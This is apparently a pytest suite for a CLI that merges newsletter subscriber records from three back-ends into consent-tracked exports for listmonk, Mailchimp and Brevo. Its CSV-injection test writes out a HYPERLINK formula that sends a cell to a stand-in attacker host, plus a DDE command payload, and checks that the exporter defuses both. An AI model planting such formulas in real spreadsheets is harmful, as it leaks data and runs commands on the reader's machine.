"""`hub subscribers`: sign-up records from three back-ends merged into one consent record per address.

The fixtures (tests/fixtures/subscribers/) hold, row by row, the cases a real export has:
- form-backend.csv: UTF-8 with BOM, ';', CRLF, Cyrillic names, a mixed-case address, an internationalised
  domain, day-first and local times, and five rows to refuse (no @, language 'ru', no address, no time,
  event 'bounce');
- backend.json: confirmations (one for an upper-case address, one for the punycode form of the Ukrainian
  domain, one stale, after an unsubscribe), a sign-up with a 279-byte name, a Unix time, and two rows to refuse;
- old-sheet.csv: ',' and quoted names; a stale sign-up older than an unsubscribe in another file; an
  unsubscribe followed by a newer sign-up; an unsubscribe and a sign-up at the same moment; a confirmation
  of nothing; a display name; a row with a field too many.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import stat
from pathlib import Path

import pytest

from hub.commands.cli import main

FIXTURES = Path(__file__).parent / "fixtures" / "subscribers"
INPUTS = [FIXTURES / "form-backend.csv", FIXTURES / "backend.json", FIXTURES / "old-sheet.csv"]
LONG_NAME = " ".join(["Марія-Олександра Василенко-Кравченко"] * 4)
TARAS = "taras@xn--80a1acn3a.xn--j1amh"
"""taras@пошта.укр, in the ASCII form every mailing tool accepts."""

CANONICAL = [
    # email, name, language, status, consent_at, consent_source, consent_version, confirmed_at, unsubscribed_at, tags
    ["bohdan@example.org", "Богдан", "uk", "no-consent", "", "", "", "", "", ""],  # a confirmation of nothing
    ["ivan@example.com", "Іван Коваль", "uk", "unsubscribed", "2026-10-02T06:00:00Z", "footer", "2026-10", "", "2026-11-10T06:00:00Z", ""],
    ["kateryna@example.org", "Катерина", "uk", "unsubscribed", "2026-10-09T21:00:00Z", "old-sheet.csv:6", "", "", "2026-10-09T21:00:00Z", ""],
    ["long@example.org", LONG_NAME, "uk", "unconfirmed", "2026-11-03T10:00:00Z", "backend.json:17", "2026-10", "", "", ""],
    ["maria@example.net", "Марія", "en", "no-consent", "", "", "", "", "", ""],
    ["oksana@example.org", "Оксана Мельник", "en", "unconfirmed", "2026-11-01T10:00:00Z", "partners' event", "2026-10", "", "", "event,kyiv"],
    ["olena.petrenko@example.org", "Олена Петренко", "uk", "confirmed", "2026-10-01T07:00:00Z", "subscribe page", "2026-10",
     "2026-10-01T07:05:00Z", "", ""],
    [TARAS, "Тарас", "uk", "confirmed", "2026-10-05T07:00:00Z", "subscribe page", "2026-10", "2026-10-05T07:30:00Z", "", "partners"],
    ["yurii@example.org", "Юрій", "en", "unconfirmed", "2026-10-19T21:00:00Z", "old-sheet.csv:4", "", "", "", ""],  # back after unsubscribing
]
REJECTS = [
    ["form-backend.csv", "6", "not-an-email", "not a valid e-mail address: it has no @ sign"],
    ["form-backend.csv", "8", "anna@example.org", "language 'ru'"],
    ["form-backend.csv", "9", "", "no e-mail address"],
    ["form-backend.csv", "10", "petro@example.org", "no time"],
    ["form-backend.csv", "11", "sofia@example.org", "unknown event 'bounce'"],
    ["backend.json", "16", "bad@@example.org", "not a valid e-mail address: characters no address holds after the @ sign: '@'"],
    ["backend.json", "18", "", "expected an object"],
    ["old-sheet.csv", "8", "Olena Petrenko <olena@example.org>",
     "not a valid e-mail address: it is a name with an address in angle brackets"],
    ["old-sheet.csv", "9", "maksym@example.org", "7 fields for 6 columns"],
]


def rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter=delimiter))


@pytest.fixture(scope="module")
def exported(project: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("export") / "subscribers"
    assert main(["subscribers", "--root", str(project), *map(str, INPUTS), "--out", str(out)]) == 0
    return out


def test_one_canonical_record_per_address(exported: Path) -> None:
    header, *records = rows(exported / "subscribers.csv")
    assert header == ["email", "name", "language", "status", "consent_at", "consent_source", "consent_version",
                      "confirmed_at", "unsubscribed_at", "tags"]
    assert records == CANONICAL


def test_every_refused_row_is_listed_with_its_line_and_reason(exported: Path) -> None:
    header, *refused = rows(exported / "rejects.csv")
    assert header == ["file", "line", "email", "reason"]
    assert [row[:3] for row in refused] == [expected[:3] for expected in REJECTS]
    for row, expected in zip(refused, REJECTS):
        assert expected[3] in row[3]


def test_the_summary_accounts_for_every_row(exported: Path) -> None:
    summary = json.loads((exported / "summary.json").read_text(encoding="utf-8"))
    assert summary["rows_per_file"] == {"form-backend.csv": 10, "backend.json": 7, "old-sheet.csv": 8}
    assert summary["statuses"] == {"confirmed": 2, "unconfirmed": 3, "unsubscribed": 2, "no-consent": 2}
    assert (summary["rows_in"], summary["exported"], summary["suppressed"], summary["rejected"], summary["merged_duplicates"]) \
        == (25, 5, 4, 9, 7)
    assert summary["rows_in"] == summary["exported"] + summary["suppressed"] + summary["rejected"] + summary["merged_duplicates"]
    assert summary["balanced"] is True


def test_listmonk_gets_one_file_per_list_and_status_and_a_blocklist(exported: Path) -> None:
    def emails(name: str) -> list[str]:
        header, *records = rows(exported / name)
        assert header == ["email", "name", "attributes"]
        return [record[0] for record in records]

    assert emails("listmonk-uk-confirmed.csv") == ["olena.petrenko@example.org", TARAS]
    assert emails("listmonk-uk-unconfirmed.csv") == ["long@example.org"]
    assert emails("listmonk-en-confirmed.csv") == []
    assert emails("listmonk-en-unconfirmed.csv") == ["oksana@example.org", "yurii@example.org"]
    assert emails("listmonk-blocklist.csv") == ["ivan@example.com", "kateryna@example.org"]
    _, olena, _ = rows(exported / "listmonk-uk-confirmed.csv")
    assert olena[1] == "Олена Петренко"
    assert json.loads(olena[2]) == {"language": "uk", "consent_at": "2026-10-01T07:00:00Z", "consent_source": "subscribe page",
                                    "consent_version": "2026-10", "confirmed_at": "2026-10-01T07:05:00Z"}


def test_mailchimp_fields_fit_in_255_bytes(exported: Path) -> None:
    header, *subscribed = rows(exported / "mailchimp-subscribed.csv")
    assert header[:3] == ["Email Address", "First Name", "Language"]
    assert [row[0] for row in subscribed] == ["long@example.org", "oksana@example.org", "olena.petrenko@example.org", TARAS, "yurii@example.org"]
    for row in subscribed:
        assert all(len(value.encode()) <= 255 for value in row)
    shortened = subscribed[0][1]
    assert len(LONG_NAME.encode()) == 279 and LONG_NAME.startswith(shortened)
    assert len(shortened.encode()) == 254, "cut before the letter that would cross 255 bytes, never inside it"
    _, *unsubscribed = rows(exported / "mailchimp-unsubscribed.csv")
    assert [(row[0], row[-1]) for row in unsubscribed] == [("ivan@example.com", "2026-11-10T06:00:00Z"),
                                                          ("kateryna@example.org", "2026-10-09T21:00:00Z")]


def test_brevo_gets_semicolon_separated_lists_and_a_blocklist(exported: Path) -> None:
    header, *uk = rows(exported / "brevo-uk.csv", ";")
    assert header[:2] == ["EMAIL", "FIRSTNAME"]
    assert [row[0] for row in uk] == ["long@example.org", "olena.petrenko@example.org", TARAS]
    assert [row[0] for row in rows(exported / "brevo-en.csv", ";")[1:]] == ["oksana@example.org", "yurii@example.org"]
    assert rows(exported / "brevo-blocklist.csv", ";")[1:] == [["ivan@example.com", "2026-11-10T06:00:00Z"],
                                                             ["kateryna@example.org", "2026-10-09T21:00:00Z"]]


def test_nobody_without_consent_or_unsubscribed_is_in_a_subscriber_file(exported: Path) -> None:
    suppressed = {"bohdan@example.org", "maria@example.net", "ivan@example.com", "kateryna@example.org"}
    for path in exported.glob("*.csv"):
        if path.name in ("subscribers.csv", "rejects.csv") or "blocklist" in path.name or "unsubscribed" in path.name:
            continue
        text = path.read_text(encoding="utf-8")
        assert not [email for email in suppressed if email in text], path.name


def test_output_files_are_readable_by_the_owner_only(exported: Path) -> None:
    files = list(exported.iterdir())
    assert len(files) == 13
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    assert stat.S_IMODE(exported.stat().st_mode) == 0o700


@pytest.mark.parametrize("folder", ["subscribers-2026-11", "news/exports", "."])
def test_personal_data_is_never_written_into_the_project_folder(project: Path, folder: str, capsys) -> None:
    """Everything in the project folder may be committed, and pushed to a public repository, with the content."""
    with pytest.raises(SystemExit) as stop:
        main(["subscribers", "--root", str(project), *map(str, INPUTS), "--out", str(project / folder)])
    assert stop.value.code == 2
    err = capsys.readouterr().err
    assert "will not write into" in err and "nothing was written" in err
    assert not list(project.rglob("subscribers.csv")) and not (project / "subscribers-2026-11").exists()


def test_an_export_saved_inside_the_project_is_warned_of(project: Path, tmp_path: Path, capsys) -> None:
    """A form's export saved next to the content would go out with the next commit."""
    inside = project / "form-export.csv"
    shutil.copy(INPUTS[0], inside)
    try:
        assert main(["subscribers", "--root", str(project), str(inside), str(INPUTS[1]), "--out", str(tmp_path / "out")]) == 0
    finally:
        inside.unlink()
    err = capsys.readouterr().err
    assert f"warning: {inside} is inside the project folder and holds personal data: move it out of the project" in err
    assert str(INPUTS[1]) not in err


@pytest.mark.parametrize("folder", ["site", "site/exports", "docs", "docs/assets/x"])
def test_refuses_to_write_into_the_site_or_the_pages(project: Path, folder: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = sorted(p.name for p in (project / folder.split("/")[0]).iterdir())
    with pytest.raises(SystemExit) as stop:
        main(["subscribers", "--root", str(project), *map(str, INPUTS), "--out", str(project / folder)])
    assert stop.value.code == 2
    assert "will not write into" in capsys.readouterr().err
    assert sorted(p.name for p in (project / folder.split("/")[0]).iterdir()) == before
    assert not (project / folder / "subscribers.csv").exists()


def test_a_file_that_is_not_utf8_stops_everything(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    legacy = tmp_path / "excel.csv"
    legacy.write_bytes("email;event;time\nivan@example.com;unsubscribe;2026-11-01\nолена@example.org;signup;2026-11-02\n".encode("cp1251"))
    out = tmp_path / "out"
    with pytest.raises(SystemExit):
        main(["subscribers", "--root", str(project), str(INPUTS[0]), str(legacy), "--out", str(out)])
    assert f"{legacy}:3: not UTF-8 text" in capsys.readouterr().err
    assert not out.exists()


def test_what_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(project: Path, tmp_path: Path) -> None:
    """The public form takes any name: `=HYPERLINK(…)` in a file the list's keeper opens in Excel would send the next
    cell to another site (CSV injection). Every export and the refused rows carry it as text; addresses stay as they are."""
    attack = '=HYPERLINK("https://evil.example/?"&A2,"Відкрити")'
    form = tmp_path / "form.csv"
    with form.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([
            ["email", "name", "language", "event", "time", "consent", "source", "tags"],
            ["-dash@example.org", attack, "uk", "signup", "2026-11-20 10:00", "yes", "+cmd|' /C calc'!A0", "@team"],
            ["plus@example.org", "Ольга", "en", "signup", "2026-11-20 11:00", "yes", "-2+3", ""],
            [attack, "Хтось", "uk", "signup", "2026-11-20 12:00", "yes", "", ""],
        ])
    out = tmp_path / "out"
    assert main(["subscribers", "--root", str(project), str(form), "--out", str(out)]) == 0
    cells = {path.name: [cell for row in rows(path, ";" if path.name.startswith("brevo") else ",") for cell in row]
             for path in out.glob("*.csv")}
    assert "'" + attack in cells["subscribers.csv"] and "'" + attack in cells["listmonk-uk-unconfirmed.csv"]
    assert "'" + attack in cells["mailchimp-subscribed.csv"] and "'" + attack in cells["brevo-uk.csv"]
    assert "'" + attack in cells["rejects.csv"], "a refused address is a cell too"
    assert "'+cmd|' /C calc'!A0" in cells["subscribers.csv"] and "'@team" in cells["subscribers.csv"]
    assert "'-2+3" in cells["subscribers.csv"]
    assert "-dash@example.org" in cells["subscribers.csv"] and "-dash@example.org" in cells["brevo-uk.csv"]
    for name, values in cells.items():
        assert not [value for value in values if value.startswith(("=", "+", "@")) or
                    (value.startswith("-") and value != "-dash@example.org")], name


def test_a_ukrainian_sheet_is_read_by_its_headers_and_words(project: Path, tmp_path: Path) -> None:
    """A communicator's own spreadsheet, or a Google Form in Ukrainian: Ukrainian headers (with the apostrophe typed
    any way), events, consent and language names mean what their English counterparts do."""
    sheet = tmp_path / "таблиця.csv"
    sheet.write_text("\ufeffПозначка часу;Ел. пошта;Ім’я;Мова;Подія;Згода;Джерело\r\n"
                     "20.11.2026 10:00;olena@example.org;Олена;Українська;підписка;так;сторінка підписки\r\n"
                     "20.11.2026 10:05;olena@example.org;;;підтвердження;;\r\n"
                     "21.11.2026 09:00;john@example.org;John;англійська;Підписка;Так;захід\r\n"
                     "22.11.2026 18:00;john@example.org;;;відписка;;\r\n"
                     "22.11.2026 18:30;ivan@example.org;Іван;English;скасування;так;\r\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["subscribers", "--root", str(project), str(sheet), "--out", str(out)]) == 0
    records = {row[0]: row for row in rows(out / "subscribers.csv")[1:]}
    assert records["olena@example.org"][1:8] == ["Олена", "uk", "confirmed", "2026-11-20T08:00:00Z", "сторінка підписки", "",
                                                 "2026-11-20T08:05:00Z"]
    assert records["john@example.org"][2:4] == ["en", "unsubscribed"]
    (reject,) = rows(out / "rejects.csv")[1:]
    assert reject[1:3] == ["6", "ivan@example.org"] and "unknown event 'скасування'" in reject[3]


def test_a_time_no_calendar_holds_is_a_rejected_row_not_a_crash(project: Path, tmp_path: Path) -> None:
    """A back-end's JSON may carry any number as a Unix time: one past the year 9999 (or 1e400, read as infinity)
    stopped the export with an OverflowError; it is now the row's reason, and the other rows are exported."""
    backend = tmp_path / "backend.json"
    backend.write_text(json.dumps([
        {"email": "far@example.org", "event": "signup", "time": 99_999_999_999_999, "consent": "yes"},
        {"email": "ok@example.org", "event": "signup", "time": 1_763_640_000, "consent": "yes"},
    ]) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["subscribers", "--root", str(project), str(backend), "--out", str(out)]) == 0
    (reject,) = rows(out / "rejects.csv")[1:]
    assert reject[2] == "far@example.org" and "time '99999999999999'" in reject[3]
    assert [row[0] for row in rows(out / "subscribers.csv")[1:]] == ["ok@example.org"]


def test_a_sheet_without_a_consent_column_says_why_nobody_is_exported(project: Path, tmp_path: Path) -> None:
    """A Google Form whose consent question is worded at length, or a list without consent: every row was dropped as a
    sign-up without consent, in silence («exported 0»)."""
    sheet = tmp_path / "форма.csv"
    sheet.write_text("Адреса електронної пошти;Подія;Позначка часу;Згода на обробку персональних даних\r\n"
                     "olena@example.org;підписка;23.11.2026 10:15;так\r\n", encoding="utf-8")
    bare = tmp_path / "список.csv"
    bare.write_text("email,event,time\r\nivan@example.org,signup,2026-11-23T10:16:00+02:00\r\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["subscribers", "--root", str(project), str(sheet), str(bare), "--out", str(out)]) == 0
    assert [row[0] for row in rows(out / "subscribers.csv")[1:]] == ["olena@example.org"]
    (reject,) = rows(out / "rejects.csv")[1:]
    assert reject[2] == "ivan@example.org" and "no consent column" in reject[3]


def test_a_file_that_is_not_there_is_said_in_the_writers_words(project: Path, tmp_path: Path, capsys) -> None:
    """«cannot be read (No such file or directory)»: the system's English inside a Ukrainian message."""
    with pytest.raises(SystemExit):
        main(["subscribers", "--root", str(project), str(tmp_path / "нема.csv"), "--out", str(tmp_path / "out")])
    assert "нема.csv: cannot be read: there is no such file or folder: check its name and where it is" in capsys.readouterr().err
